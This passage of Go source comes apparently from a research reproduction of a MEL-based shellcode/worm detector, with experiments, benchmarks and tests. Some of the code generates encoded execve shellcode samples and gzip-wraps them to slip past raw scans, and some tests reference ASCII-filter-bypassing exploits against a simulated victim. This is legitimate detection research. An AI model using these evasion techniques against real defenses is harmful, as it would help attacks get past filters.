	fmt.Fprintf(w, "%14s  %22s  %22s\n", "", "Observed", "Expected")
	fmt.Fprintf(w, "%14s  %10s %10s  %10s %10s\n", "", "Valid I2", "Invalid I2", "Valid I2", "Invalid I2")
	rows := [2]string{"Valid I1", "Invalid I1"}
	for i := 0; i < 2; i++ {
		fmt.Fprintf(w, "%14s  %10d %10d  %10.0f %10.0f\n", rows[i],
			counts[i][0], counts[i][1], res.Expected[i][0], res.Expected[i][1])
	}
	total := float64(counts[0][0] + counts[0][1] + counts[1][0] + counts[1][1])
	phi := math.Sqrt(res.Statistic / total)
	fmt.Fprintf(w, "\nchi-square = %.2f (df=%d, %d pairs), p-value = %.4f\n",
		res.Statistic, res.DF, int(total), res.PValue)
	rejected := !res.IndependentAt(0.05)
	fmt.Fprintf(w, "independence rejected at 5%%: %v (paper: not rejected, p ~ 0.1 at 15.5k pairs)\n", rejected)
	fmt.Fprintf(w, "effect size phi = %.3f (paper's table implies ~0.013; <0.1 means the\n", phi)
	fmt.Fprintf(w, "Bernoulli approximation is sound even where the larger sample rejects)\n")
	fmt.Fprintf(w, "at the paper's sample size (~15.5k pairs): p-value = %.4f\n", paperRes.PValue)
	return &ChiSquareResult{
		Observed:         counts,
		Expected:         res.Expected,
		Statistic:        res.Statistic,
		PValue:           res.PValue,
		Rejected:         rejected,
		Phi:              phi,
		PaperScalePValue: paperRes.PValue,
	}, nil
}

// ParamsResult is the Section 5.2 parameter-derivation table.
type ParamsResult struct {
	Params      melmodel.Params
	Tau         float64
	MeasuredLen float64 // measured mean instruction length (paper: 2.65)
}

// Params regenerates the Section 5.2 estimation: all model parameters
// from the character-frequency table of the benign corpus, plus the
// resulting threshold and the disassembly-measured average instruction
// length for comparison.
func Params(w io.Writer, seed uint64) (*ParamsResult, error) {
	section(w, "E7 / Section 5.2", "parameter determination from character frequencies")
	benign, err := benignDataset(seed, DefaultCases)
	if err != nil {
		return nil, err
	}
	var all []byte
	for _, b := range benign {
		all = append(all, b...)
	}
	freq, err := corpus.Frequencies(all)
	if err != nil {
		return nil, err
	}
	params, err := melmodel.Estimate(freq, DefaultCaseLen)
	if err != nil {
		return nil, err
	}
	tau, err := melmodel.Threshold(DefaultAlpha, params.N, params.P)
	if err != nil {
		return nil, err
	}
	engine := mel.NewEngine(mel.DAWNStateless())
	measured, err := engine.MeanInstrLen(all)
	if err != nil {
		return nil, err
	}

	fmt.Fprintf(w, "%-38s %10s %10s\n", "quantity", "measured", "paper")
	fmt.Fprintf(w, "%-38s %10.3f %10s\n", "z (prefix char probability)", params.Z, "0.16")
	fmt.Fprintf(w, "%-38s %10.3f %10s\n", "E[prefix chain length]", params.EPrefixLen, "0.19")
	fmt.Fprintf(w, "%-38s %10.3f %10s\n", "E[actual instruction length]", params.EActualLen, "2.4")
	fmt.Fprintf(w, "%-38s %10.3f %10s\n", "E[instruction length]", params.EInstrLen, "2.6")
	fmt.Fprintf(w, "%-38s %10d %10s\n", "n (instructions per 4K case)", params.N, "1540")
	fmt.Fprintf(w, "%-38s %10.3f %10s\n", "p_io (I/O char mass)", params.PIO, "0.185")
	fmt.Fprintf(w, "%-38s %10.3f %10s\n", "p_seg (wrong-segment memory access)", params.PWrongSeg, "0.042")
	fmt.Fprintf(w, "%-38s %10.3f %10s\n", "p = p_io + p_seg", params.P, "0.227")
	fmt.Fprintf(w, "%-38s %10.2f %10s\n", "tau at alpha = 1%", tau, "40")
	fmt.Fprintf(w, "%-38s %10.3f %10s\n", "measured avg instruction length", measured, "2.65")
	return &ParamsResult{Params: params, Tau: tau, MeasuredLen: measured}, nil
}

// Fig3Result is the Figure 3 / Section 5.3 detection outcome.
type Fig3Result struct {
	Evaluation    core.Evaluation
	Tau           float64
	BenignMELs    *stats.IntHistogram
	MaliciousMELs *stats.IntHistogram
	BenignMean    float64
	BenignMax     int
	MaliciousMin  int
}

// Fig3Detect regenerates Figure 3 and the Section 5.3 results: the MEL
// frequency charts of benign vs malicious traffic and the zero-FP /
// zero-FN detection outcome at the automatically derived threshold.
func Fig3Detect(w io.Writer, seed uint64, cases, worms int) (*Fig3Result, error) {
	section(w, "E6+E8 / Figure 3, Section 5.3", "MEL frequency charts and detection results")
	benign, err := benignDataset(seed, cases)
	if err != nil {
		return nil, err
	}
	malicious, _, err := wormDataset(seed+1, worms)
	if err != nil {
		return nil, err
	}

	det, err := core.New()
	if err != nil {
		return nil, err
	}
	var training []byte
	for _, b := range benign {
		training = append(training, b...)
	}
	if err := det.Calibrate(training); err != nil {
		return nil, err
	}

	benignHist := stats.NewIntHistogram()
	malHist := stats.NewIntHistogram()
	var ev core.Evaluation
	var tau float64
	for _, b := range benign {
		v, err := det.Scan(b)
		if err != nil {
			return nil, err
		}
		benignHist.Add(v.MEL)
		tau = v.Threshold
		if v.Malicious {
			ev.FalsePositives++
		} else {
			ev.TrueNegatives++
		}
	}
	for _, m := range malicious {
		v, err := det.Scan(m)
		if err != nil {
			return nil, err
		}
		malHist.Add(v.MEL)
		if v.Malicious {
			ev.TruePositives++
		} else {
			ev.FalseNegatives++
		}
	}

	benignMean, _ := benignHist.Mean()
	benignMax, _ := benignHist.Max()
	malMin, _ := malHist.Min()

	fmt.Fprintf(w, "derived threshold tau = %.2f (paper: 40)\n\n", tau)
	fmt.Fprintf(w, "benign MEL frequency chart (mean %.1f, max %d; paper: mean ~20, max 40):\n",
		benignMean, benignMax)
	fmt.Fprint(w, benignHist.Render(5, 2))
	fmt.Fprintf(w, "\nmalicious MEL frequency chart (min %d; paper: always > 120):\n", malMin)
	fmt.Fprint(w, malHist.Render(20, 2))
	fmt.Fprintf(w, "\ndetection: TP=%d FP=%d TN=%d FN=%d (paper: zero FP, zero FN)\n",
		ev.TruePositives, ev.FalsePositives, ev.TrueNegatives, ev.FalseNegatives)
	return &Fig3Result{
		Evaluation:    ev,
		Tau:           tau,
		BenignMELs:    benignHist,
		MaliciousMELs: malHist,
		BenignMean:    benignMean,
		BenignMax:     benignMax,
		MaliciousMin:  malMin,
	}, nil
}

package experiments

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"testing"

	"repro/internal/content"
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
)

// ContentBenchReport is the BENCH_content.json artifact: the content
// pipeline's cost and effectiveness on mixed traffic, tracked across
// PRs alongside BENCH_engine.json.
type ContentBenchReport struct {
	Workload string              `json:"workload"`
	Results  []EngineBenchResult `json:"results"`
	// TriageClearRate is the fraction of benign mixed traffic the triage
	// gate cleared without any MEL pass at all.
	TriageClearRate float64 `json:"triage_clear_rate"`
	// PipelineSpeedup is the ns/op advantage of the triage-gated
	// pipeline over scanning every payload and every decoded view
	// unconditionally (baseline_scan_all / pipeline_mixed).
	PipelineSpeedup float64 `json:"pipeline_speedup"`
	// WrappedWormCaught records that a gzip-wrapped worm — invisible to
	// the raw scan — was flagged through the decode path.
	WrappedWormCaught bool `json:"wrapped_worm_caught"`
	// WrappedWormRawMissed records the premise: the same wrapped worm
	// scans clean without the pipeline.
	WrappedWormRawMissed bool `json:"wrapped_worm_raw_missed"`
}

// ContentBench measures the content pipeline — triage gate cost, decode
// throughput, and the gated pipeline against the scan-everything
// baseline on mixed benign traffic (30% of bodies wrapped in base64 or
// gzip) — and proves the detection win: a gzip-wrapped worm the raw
// scan misses is caught through the decode path. Writes the JSON
// artifact to outPath ("" skips the file).
func ContentBench(w io.Writer, outPath string, seed uint64) (ContentBenchReport, error) {
	return contentBenchN(w, outPath, seed, 40)
}

// contentBenchN is ContentBench with the mixed-traffic case count
// exposed for fast tests.
func contentBenchN(w io.Writer, outPath string, seed uint64, nCases int) (ContentBenchReport, error) {
	det, err := core.New()
	if err != nil {
		return ContentBenchReport{}, err
	}
	pipe, err := content.NewPipeline(det.ScanTraced, content.PipelineConfig{})
	if err != nil {
		return ContentBenchReport{}, err
	}
	dec := pipe.Decoder()

	cases, err := corpus.Dataset(seed, nCases, 4096)
	if err != nil {
		return ContentBenchReport{}, err
	}
	// Mixed benign traffic: 30% of bodies arrive behind an encoding
	// layer, alternating base64 and gzip — the shape -encoded-frac 0.3
	// traffic has.
	mixed := make([][]byte, 0, len(cases))
	var mixedBytes int
	for i, c := range cases {
		body := c.Data
		switch i % 10 {
		case 0, 4:
			body = content.EncodeBase64(body)
		case 2:
			body = content.EncodeGzip(body)
		}
		mixed = append(mixed, body)
		mixedBytes += len(body)
	}

	// A worm window the raw scan flags, hidden behind gzip. Some gzip
	// blobs trip the raw detector on their own (compressed bytes can
	// pseudo-execute far); walk the seed until the premise — wrapped
	// worm invisible to the raw scan — holds.
	var wrapped []byte
	benign := cases[0].Data
	for s, tries := seed, 0; ; s, tries = s+1, tries+1 {
		if tries >= 16 {
			return ContentBenchReport{}, fmt.Errorf("no seed in %d..%d yields a raw-clean gzip worm", seed, s-1)
		}
		worm, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: s, SledLen: 64})
		if err != nil {
			return ContentBenchReport{}, err
		}
		window := append(append([]byte{}, benign[:2000]...), worm.Bytes...)
		window = append(window, benign[2000:]...)
		if len(window) > 4096 {
			window = window[:4096]
		}
		raw, err := det.Scan(window)
		if err != nil {
			return ContentBenchReport{}, err
		}
		if !raw.Malicious {
			continue // the capped splice must still flag raw to matter
		}
		cand := content.EncodeGzip(window)
		rawWrapped, err := det.Scan(cand)
		if err != nil {
			return ContentBenchReport{}, err
		}
		if !rawWrapped.Malicious {
			wrapped = cand
			break
		}
	}

	report := ContentBenchReport{
		Workload:             "4 KB mixed benign traffic, 30% encoded (base64/gzip), DAWN rules",
		WrappedWormRawMissed: true,
	}

	v, err := pipe.Scan(wrapped)
	if err != nil {
		return ContentBenchReport{}, err
	}
	report.WrappedWormCaught = v.Malicious && v.DecodeChain == "gzip"

	var cleared int
	for _, body := range mixed {
		v, err := pipe.Scan(body)
		if err != nil {
			return ContentBenchReport{}, err
		}
		if v.TriageCleared {
			cleared++
		}
	}
	report.TriageClearRate = float64(cleared) / float64(len(mixed))

	measure := func(name string, nbytes int, f func(b *testing.B)) EngineBenchResult {
		r := testing.Benchmark(f)
		nsPerOp := float64(r.T.Nanoseconds()) / float64(r.N)
		mbPerSec := 0.0
		if nsPerOp > 0 {
			mbPerSec = float64(nbytes) / nsPerOp * 1e9 / 1e6
		}
		return EngineBenchResult{
			Name:        name,
			NsPerOp:     nsPerOp,
			MBPerSec:    mbPerSec,
			AllocsPerOp: r.AllocsPerOp(),
			BytesPerOp:  r.AllocedBytesPerOp(),
		}
	}

	tri := pipe.Triage()
	triageRes := measure("triage_assess_4k", len(benign), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if r := tri.Assess(benign); r.Score < 0 {
				b.Fatal("impossible score")
			}
		}
	})
	gzBody := content.EncodeGzip(benign)
	decodeRes := measure("decode_views_gzip_4k", len(benign), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			var total int
			for view, err := range dec.Views(gzBody, 0) {
				if err != nil {
					b.Fatal(err)
				}
				total += len(view.Data)
			}
			if total < len(benign) {
				b.Fatalf("decoded only %d bytes", total)
			}
		}
	})
	pipelineRes := measure("pipeline_mixed_4k", mixedBytes, func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			for _, body := range mixed {
				if _, err := pipe.Scan(body); err != nil {
					b.Fatal(err)
				}
			}
		}
	})
	baselineRes := measure("baseline_scan_all_4k", mixedBytes, func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			// No triage gate: MEL on every payload and every decoded view.
			for _, body := range mixed {
				if _, err := det.Scan(body); err != nil {
					b.Fatal(err)
				}
				for view, verr := range dec.Views(body, 0) {
					if verr != nil {
						b.Fatal(verr)
					}
					if _, err := det.Scan(view.Data); err != nil {
						b.Fatal(err)
					}
				}
			}
		}
	})

	report.Results = []EngineBenchResult{triageRes, decodeRes, pipelineRes, baselineRes}
	if pipelineRes.NsPerOp > 0 {
		report.PipelineSpeedup = baselineRes.NsPerOp / pipelineRes.NsPerOp
	}

	fmt.Fprintln(w, "E21: content pipeline (triage -> decode -> MEL) on mixed traffic")
	for _, r := range report.Results {
		fmt.Fprintf(w, "  %-28s %12.0f ns/op %9.2f MB/s %6d allocs/op\n",
			r.Name, r.NsPerOp, r.MBPerSec, r.AllocsPerOp)
	}
	fmt.Fprintf(w, "  triage clear rate (benign mixed): %.1f%%\n", report.TriageClearRate*100)
	fmt.Fprintf(w, "  pipeline speedup vs scan-all baseline: %.2fx\n", report.PipelineSpeedup)
	fmt.Fprintf(w, "  gzip-wrapped worm: raw scan missed=%v, pipeline caught=%v\n",
		report.WrappedWormRawMissed, report.WrappedWormCaught)

	if outPath != "" {
		blob, err := json.MarshalIndent(report, "", "  ")
		if err != nil {
			return report, err
		}
		if err := os.WriteFile(outPath, append(blob, '\n'), 0o644); err != nil {
			return report, fmt.Errorf("write %s: %w", outPath, err)
		}
		fmt.Fprintf(w, "  wrote %s\n", outPath)
	}
	fmt.Fprintln(w)
	return report, nil
}

// ContentGuard re-measures the content benchmarks and fails if any
// regressed against the committed BENCH_content.json artifact, under
// the same 20%-ns/op / zero-alloc-growth rules as the engine guard.
func ContentGuard(w io.Writer, committedPath string, seed uint64) error {
	return guardBench(w, committedPath, func() ([]EngineBenchResult, error) {
		report, err := ContentBench(w, "", seed)
		return report.Results, err
	})
}

package experiments

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"time"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/server"
	"repro/internal/server/client"
	"repro/internal/telemetry"
)

// ServeBenchResult is one measured serving configuration.
type ServeBenchResult struct {
	Name        string  `json:"name"`
	Requests    int     `json:"requests"`
	Conns       int     `json:"conns"`
	Seconds     float64 `json:"seconds"`
	ScansPerSec float64 `json:"scans_per_sec"`
	P50Us       float64 `json:"p50_us"`
	P99Us       float64 `json:"p99_us"`
	CacheHits   uint64  `json:"cache_hits"`
}

// ServeOverloadResult probes the load-shedding path: a pool sized far
// below the offered load must refuse the excess with ErrOverloaded and
// answer every request either way — never hang.
type ServeOverloadResult struct {
	Requests    int  `json:"requests"`
	Served      int  `json:"served"`
	Shed        int  `json:"shed"`
	AllExplicit bool `json:"all_explicit"` // every request got a verdict or a typed error
}

// ServeBenchReport is the BENCH_serve.json artifact: closed-loop wire
// throughput of the scan daemon, cold vs cache-hit, with tail latency
// from the daemon's own telemetry histogram, plus the overload probe.
type ServeBenchReport struct {
	Workload     string              `json:"workload"`
	Results      []ServeBenchResult  `json:"results"`
	CacheSpeedup float64             `json:"cache_speedup"`
	Overload     ServeOverloadResult `json:"overload"`
}

// latencyQuantiles pulls p50/p99 (in microseconds) for the given
// histogram out of a registry snapshot.
func latencyQuantiles(reg *telemetry.Registry, name string) (p50, p99 float64) {
	for _, m := range reg.Snapshot() {
		if m.Name == name && m.Hist != nil {
			return m.Hist.Quantile(0.50) * 1e6, m.Hist.Quantile(0.99) * 1e6
		}
	}
	return 0, 0
}

// serveLoop runs a closed loop: conns client connections, each scanning
// its share of requests synchronously, cycling through payloads.
func serveLoop(addr string, payloads [][]byte, conns, requests int) (time.Duration, error) {
	clients := make([]*client.Client, conns)
	for i := range clients {
		c, err := client.Dial(addr)
		if err != nil {
			return 0, err
		}
		defer c.Close()
		clients[i] = c
	}
	var wg sync.WaitGroup
	errCh := make(chan error, conns)
	per := requests / conns
	start := time.Now()
	for i, c := range clients {
		wg.Add(1)
		go func(i int, c *client.Client) {
			defer wg.Done()
			for j := 0; j < per; j++ {
				p := payloads[(i*per+j)%len(payloads)]
				if _, err := c.Scan(p); err != nil {
					errCh <- err
					return
				}
			}
		}(i, c)
	}
	wg.Wait()
	elapsed := time.Since(start)
	select {
	case err := <-errCh:
		return elapsed, err
	default:
	}
	return elapsed, nil
}

// startServe boots a daemon on an ephemeral loopback port.
func startServe(det *core.Detector, cacheSize int) (*server.Server, string, error) {
	srv, err := server.New(server.Config{
		Detector:  det,
		CacheSize: cacheSize,
	})
	if err != nil {
		return nil, "", err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, "", err
	}
	go func() { _ = srv.Serve(ln) }()
	return srv, ln.Addr().String(), nil
}

// ServeBench measures the scan daemon end to end over the wire
// protocol and writes the JSON artifact to outPath ("" skips the file).
//
// Three phases: cold (verdict cache disabled, every request
// pseudo-executes), cached (32 distinct 4 KB payloads after a warm
// pass, requests answered from the content-hash cache), and an
// overload probe (1 worker, tiny queue, a burst far over capacity —
// the excess must shed with ErrOverloaded, and every request must get
// an answer).
func ServeBench(w io.Writer, outPath string, seed uint64) (ServeBenchReport, error) {
	return serveBenchN(w, outPath, seed, 2000, 20000)
}

// serveBenchN is ServeBench with the phase request counts exposed, so
// tests can run a reduced pass.
func serveBenchN(w io.Writer, outPath string, seed uint64, coldReqs, cachedReqs int) (ServeBenchReport, error) {
	const (
		payloadCount = 32
		payloadLen   = 4096
		conns        = 4
	)
	cases, err := corpus.Dataset(seed, payloadCount, payloadLen)
	if err != nil {
		return ServeBenchReport{}, err
	}
	payloads := make([][]byte, len(cases))
	for i, c := range cases {
		payloads[i] = c.Data
	}

	det, err := core.New()
	if err != nil {
		return ServeBenchReport{}, err
	}

	report := ServeBenchReport{
		Workload: fmt.Sprintf("%d distinct 4 KB benign payloads, %d closed-loop conns, loopback wire protocol", payloadCount, conns),
	}

	run := func(name string, cacheSize, requests int) (ServeBenchResult, error) {
		srv, addr, err := startServe(det, cacheSize)
		if err != nil {
			return ServeBenchResult{}, err
		}
		defer srv.Close()
		if cacheSize >= 0 {
			// Warm pass: every payload scanned once so the timed loop
			// measures the cache-hit path.
			if _, err := serveLoop(addr, payloads, 1, len(payloads)); err != nil {
				return ServeBenchResult{}, err
			}
		}
		elapsed, err := serveLoop(addr, payloads, conns, requests)
		if err != nil {
			return ServeBenchResult{}, err
		}
		p50, p99 := latencyQuantiles(srv.Metrics(), "scan_latency_seconds")
		hits, _ := srv.Metrics().Value("cache_hits_total")
		return ServeBenchResult{
			Name:        name,
			Requests:    requests,
			Conns:       conns,
			Seconds:     elapsed.Seconds(),
			ScansPerSec: float64(requests) / elapsed.Seconds(),
			P50Us:       p50,
			P99Us:       p99,
			CacheHits:   uint64(hits),
		}, nil
	}

	cold, err := run("serve_cold_4k", -1, coldReqs)
	if err != nil {
		return report, err
	}
	cached, err := run("serve_cached_4k", 4096, cachedReqs)
	if err != nil {
		return report, err
	}
	report.Results = []ServeBenchResult{cold, cached}
	if cold.ScansPerSec > 0 {
		report.CacheSpeedup = cached.ScansPerSec / cold.ScansPerSec
	}

	overload, err := serveOverloadProbe(det, payloads)
	if err != nil {
		return report, err
	}
	report.Overload = overload

	fmt.Fprintln(w, "E20: scan service throughput (closed-loop wire protocol)")
	for _, r := range report.Results {
		fmt.Fprintf(w, "  %-18s %8d reqs %8.0f scans/s  p50 %7.0fus  p99 %7.0fus  %6d cache hits\n",
			r.Name, r.Requests, r.ScansPerSec, r.P50Us, r.P99Us, r.CacheHits)
	}
	fmt.Fprintf(w, "  cache-hit speedup: %.1fx\n", report.CacheSpeedup)
	fmt.Fprintf(w, "  overload probe: %d requests -> %d served, %d shed (all answered: %v)\n",
		overload.Requests, overload.Served, overload.Shed, overload.AllExplicit)

	if outPath != "" {
		blob, err := json.MarshalIndent(report, "", "  ")
		if err != nil {
			return report, err
		}
		if err := os.WriteFile(outPath, append(blob, '\n'), 0o644); err != nil {
			return report, fmt.Errorf("write %s: %w", outPath, err)
		}
		fmt.Fprintf(w, "  wrote %s\n", outPath)
	}
	fmt.Fprintln(w)
	return report, nil
}

// serveOverloadProbe offers a 64-request burst to a daemon with one
// worker and a two-slot queue. The pool must shed the excess with
// ErrOverloaded; a request that neither succeeds nor fails typed is a
// liveness bug.
func serveOverloadProbe(det *core.Detector, payloads [][]byte) (ServeOverloadResult, error) {
	const burst = 64
	srv, err := server.New(server.Config{
		Detector:   det,
		Workers:    1,
		QueueDepth: 2,
		CacheSize:  -1,
	})
	if err != nil {
		return ServeOverloadResult{}, err
	}
	defer srv.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return ServeOverloadResult{}, err
	}
	go func() { _ = srv.Serve(ln) }()

	c, err := client.Dial(ln.Addr().String())
	if err != nil {
		return ServeOverloadResult{}, err
	}
	defer c.Close()

	var wg sync.WaitGroup
	var mu sync.Mutex
	res := ServeOverloadResult{Requests: burst, AllExplicit: true}
	for i := 0; i < burst; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			_, err := c.Scan(payloads[i%len(payloads)])
			mu.Lock()
			defer mu.Unlock()
			switch {
			case err == nil:
				res.Served++
			case errors.Is(err, server.ErrOverloaded):
				res.Shed++
			default:
				res.AllExplicit = false
			}
		}(i)
	}
	wg.Wait()
	return res, nil
}

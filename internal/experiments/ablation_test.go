package experiments

import (
	"io"
	"repro/internal/victim"
	"testing"
)

func TestRuleAblation(t *testing.T) {
	rows, err := RuleAblation(io.Discard, DefaultSeed, 10, 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("got %d rows", len(rows))
	}
	// p must rise as rules are added (APE < +IO <= +seg <= DAWN-ish).
	if rows[0].EmpiricalP >= rows[1].EmpiricalP {
		t.Errorf("adding the IO rule should raise p: %v -> %v",
			rows[0].EmpiricalP, rows[1].EmpiricalP)
	}
	if rows[1].EmpiricalP > rows[2].EmpiricalP+1e-9 {
		t.Errorf("adding the segment rule should not lower p: %v -> %v",
			rows[1].EmpiricalP, rows[2].EmpiricalP)
	}
	// APE-narrow must fail to separate; the full DAWN set must separate.
	if rows[0].Separated {
		t.Error("APE-narrow rules should not separate text worms from benign")
	}
	last := rows[len(rows)-1]
	if !last.Separated {
		t.Errorf("DAWN rules should separate: benign max %d, worm min %d",
			last.BenignMax, last.WormMin)
	}
}

func TestAlphaSweep(t *testing.T) {
	rows, err := AlphaSweep(io.Discard, DefaultSeed, 10, 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 5 {
		t.Fatalf("got %d rows", len(rows))
	}
	// τ decreases monotonically with α.
	for i := 1; i < len(rows); i++ {
		if rows[i].Tau >= rows[i-1].Tau {
			t.Errorf("tau not decreasing: alpha=%v tau=%v after alpha=%v tau=%v",
				rows[i].Alpha, rows[i].Tau, rows[i-1].Alpha, rows[i-1].Tau)
		}
	}
	// No false negatives anywhere in the sweep (the worm band is far out).
	for _, r := range rows {
		if r.FN != 0 {
			t.Errorf("alpha=%v: FN=%d", r.Alpha, r.FN)
		}
	}
	// At a tiny alpha there must be no false positives either.
	if rows[0].FP != 0 {
		t.Errorf("alpha=%v: FP=%d, threshold should clear all benign", rows[0].Alpha, rows[0].FP)
	}
}

func TestStyleAblation(t *testing.T) {
	rows, err := StyleAblation(io.Discard, DefaultSeed)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("got %d rows", len(rows))
	}
	xor, sub, doll := rows[0], rows[1], rows[2]
	if sub.Decrypter >= xor.Decrypter {
		t.Errorf("sub-write decrypter %d should be smaller than xor-write %d",
			sub.Decrypter, xor.Decrypter)
	}
	if doll.WormBytes <= xor.WormBytes {
		t.Errorf("multilevel worm %dB should be larger than single-level %dB",
			doll.WormBytes, xor.WormBytes)
	}
	for _, r := range rows {
		if !r.Detected {
			t.Errorf("%s evaded detection (MEL %d)", r.Name, r.MEL)
		}
	}
}

func TestSizeSweep(t *testing.T) {
	rows, err := SizeSweep(io.Discard, DefaultSeed, 8, 8)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 {
		t.Fatalf("got %d rows", len(rows))
	}
	for i, r := range rows {
		if r.FN != 0 {
			t.Errorf("C=%d: FN=%d", r.CaseLen, r.FN)
		}
		if r.FP != 0 {
			t.Errorf("C=%d: FP=%d", r.CaseLen, r.FP)
		}
		if i > 0 {
			prev := rows[i-1]
			if r.N <= prev.N {
				t.Errorf("n not increasing with C: %d -> %d", prev.N, r.N)
			}
			if r.Tau <= prev.Tau {
				t.Errorf("tau not increasing with C: %v -> %v", prev.Tau, r.Tau)
			}
			// Logarithmic growth: doubling C must not double tau.
			if r.Tau > prev.Tau*1.5 {
				t.Errorf("tau grew too fast: %v -> %v for C %d -> %d",
					prev.Tau, r.Tau, prev.CaseLen, r.CaseLen)
			}
		}
	}
}

func TestExploitChain(t *testing.T) {
	rows, err := ExploitChain(io.Discard, DefaultSeed)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 {
		t.Fatalf("got %d scenarios", len(rows))
	}
	byName := map[string]ExploitChainRow{}
	for _, r := range rows {
		byName[r.Scenario] = r
	}
	if r := byName["benign request"]; r.Outcome != victim.OutcomeHandled || r.MELFlagged {
		t.Errorf("benign: %+v", r)
	}
	if r := byName["oversized benign text"]; r.Outcome != victim.OutcomeCrashed || r.MELFlagged {
		t.Errorf("oversized benign: %+v", r)
	}
	if r := byName["classic exploit, no filter"]; r.Outcome != victim.OutcomeShell || !r.MELFlagged {
		t.Errorf("classic: %+v", r)
	}
	if r := byName["classic exploit + ASCII filter"]; r.Outcome != victim.OutcomeRejected {
		t.Errorf("filtered classic: %+v", r)
	}
	r := byName["text-address exploit + ASCII filter"]
	if !r.RequestText || r.Outcome != victim.OutcomeShell || !r.MELFlagged {
		t.Errorf("text-address: %+v", r)
	}
}

package telemetry

import (
	"runtime"
	"runtime/debug"
	"time"
)

// RegisterProcessMetrics installs the standard process-identity
// metrics on r:
//
//	process_start_time_seconds  unix time the process started
//	process_uptime_seconds      seconds since start, computed at scrape
//	build_info                  constant 1 with go/module/vcs labels
//
// Idempotent like every registration; call it once from main.
func RegisterProcessMetrics(r *Registry) {
	start := time.Now()
	r.FloatGauge("process_start_time_seconds",
		"Unix time the process started.").Set(float64(start.UnixNano()) / 1e9)
	r.GaugeFunc("process_uptime_seconds",
		"Seconds since process start.", func() float64 {
			return time.Since(start).Seconds()
		})
	r.Info("build_info", "Build metadata of the running binary.", buildLabels())
}

// buildLabels extracts what the toolchain embedded in the binary.
func buildLabels() map[string]string {
	labels := map[string]string{
		"goversion": runtime.Version(),
		"goos":      runtime.GOOS,
		"goarch":    runtime.GOARCH,
	}
	info, ok := debug.ReadBuildInfo()
	if !ok {
		return labels
	}
	if info.Main.Path != "" {
		labels["module"] = info.Main.Path
	}
	if info.Main.Version != "" {
		labels["version"] = info.Main.Version
	}
	for _, s := range info.Settings {
		switch s.Key {
		case "vcs.revision":
			labels["revision"] = s.Value
		case "vcs.modified":
			labels["dirty"] = s.Value
		}
	}
	return labels
}

package tracing

import (
	"runtime"
	"sort"
	"sync/atomic"
	"time"
)

// ring is a fixed-capacity, lock-free overwrite buffer of completed
// traces. Writers claim a slot with one atomic add and publish the
// trace with one atomic pointer store; readers load the pointers. A
// published *Trace is immutable by contract (Finish is the last
// write), so the pointer hand-off is the only synchronization needed
// and the ring is race-clean without locks.
type ring struct {
	slots []atomic.Pointer[Trace]
	head  atomic.Uint64
	mask  uint64
}

func newRing(capacity int) *ring {
	n := nextPow2(capacity)
	return &ring{slots: make([]atomic.Pointer[Trace], n), mask: uint64(n - 1)}
}

// nextPow2 rounds n up to a power of two (minimum 1).
func nextPow2(n int) int {
	p := 1
	for p < n {
		p <<= 1
	}
	return p
}

// put publishes t, overwriting the oldest entry when full.
//
//mel:hotpath
func (r *ring) put(t *Trace) {
	i := r.head.Add(1) - 1
	r.slots[i&r.mask].Store(t)
}

// collect appends every resident trace to dst.
func (r *ring) collect(dst []*Trace) []*Trace {
	for i := range r.slots {
		if t := r.slots[i].Load(); t != nil {
			dst = append(dst, t)
		}
	}
	return dst
}

// Recorder is the flight recorder: a sharded ring of the most recent
// completed traces plus a separate always-retained ring of the slow
// ones (total duration at or above the configured threshold). Shards
// are sized to the P count and selected by the trace id's counter
// half, so concurrent writers on different Ps land on different rings
// with no shared write cursor in the common case.
type Recorder struct {
	shards    []*ring
	shardMask uint64
	slow      *ring
	threshold int64

	recorded  atomic.Uint64
	slowCount atomic.Uint64
}

// RecorderConfig sizes a Recorder. Zero values take the defaults.
type RecorderConfig struct {
	// Recent is the total capacity of the recent-trace rings (default
	// 256, rounded up so each shard is a power of two).
	Recent int
	// Slow is the capacity of the slow-trace ring (default 64).
	Slow int
	// SlowThreshold is the total-duration floor for the slow ring
	// (default 25ms). Traces at or above it are retained in both rings.
	SlowThreshold time.Duration
	// Shards overrides the shard count (default GOMAXPROCS, rounded up
	// to a power of two).
	Shards int
}

// Recorder defaults.
const (
	DefaultRecent        = 256
	DefaultSlow          = 64
	DefaultSlowThreshold = 25 * time.Millisecond
)

// NewRecorder builds a flight recorder.
func NewRecorder(cfg RecorderConfig) *Recorder {
	if cfg.Recent <= 0 {
		cfg.Recent = DefaultRecent
	}
	if cfg.Slow <= 0 {
		cfg.Slow = DefaultSlow
	}
	if cfg.SlowThreshold <= 0 {
		cfg.SlowThreshold = DefaultSlowThreshold
	}
	if cfg.Shards <= 0 {
		cfg.Shards = runtime.GOMAXPROCS(0)
	}
	nShards := nextPow2(cfg.Shards)
	perShard := cfg.Recent / nShards
	if perShard < 1 {
		perShard = 1
	}
	r := &Recorder{
		shards:    make([]*ring, nShards),
		shardMask: uint64(nShards - 1),
		slow:      newRing(cfg.Slow),
		threshold: int64(cfg.SlowThreshold),
	}
	for i := range r.shards {
		r.shards[i] = newRing(perShard)
	}
	return r
}

// Record publishes a finished trace into the recent rings, and into
// the slow ring when its total duration reaches the threshold. The
// trace must not be mutated after Record.
//
//mel:hotpath
func (r *Recorder) Record(t *Trace) {
	if r == nil || t == nil {
		return
	}
	r.recorded.Add(1)
